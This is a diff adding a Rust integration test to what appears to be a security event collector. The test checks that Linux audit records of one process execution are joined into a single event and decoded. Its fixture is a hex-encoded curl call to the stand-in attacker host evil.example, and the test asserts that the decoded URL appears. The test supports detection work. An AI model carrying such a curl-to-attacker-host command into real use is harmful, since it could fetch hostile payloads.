@@ -80,3 +80,31 @@ fn an_attacks_incident_leads_to_its_events_and_sql_finds_them_again() {
     assert_eq!(out.status.code(), Some(2));
     assert!(common::stderr(&out).contains("is not allowed"), "{}", common::stderr(&out));
 }
+
+/// Linux audit records of one event sent to `vigil run` without their
+/// EOE: each is stored, and the joined `audit.event` follows once its
+/// window ends, with no further line to carry it (the collector's tick).
+#[test]
+fn audit_records_become_one_audit_event_too() {
+    let v = start("search-audit-join");
+    let now = std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_secs();
+    let stamp = format!("msg=audit({now}.120:88123):");
+    let lines = [
+        format!("type=SYSCALL {stamp} arch=c000003e syscall=59 success=yes exit=0 comm=\"curl\" exe=\"/usr/bin/curl\""),
+        format!("type=EXECVE {stamp} argc=2 a0=\"curl\" a1=68747470733A2F2F6576696C2E6578616D706C652F78"),
+        format!("type=PROCTITLE {stamp} proctitle=6375726C0068747470733A2F2F6576696C2E6578616D706C652F78"),
+    ];
+    let file = v.dir.join("audit.log");
+    write_lines(&file, lines.into_iter());
+    v.send(&file, &[]);
+    let mut page = Value::Null;
+    v.wait("the joined audit event stored", |v| {
+        page = v.get("/events?event_type=audit.event", &v.token).1;
+        page["items"].as_array().is_some_and(|i| !i.is_empty())
+    });
+    let e = &page["items"][0];
+    assert!(e["raw"].as_str().unwrap().contains("SYSCALL EXECVE PROCTITLE"), "{e}");
+    assert!(e.to_string().contains("https://evil.example/x"), "the decoded argument: {e}");
+    let (_, records) = v.get("/events?event_type=audit.execve", &v.token);
+    assert_eq!(records["items"].as_array().map(Vec::len), Some(1), "the record itself stays: {records}");
+}
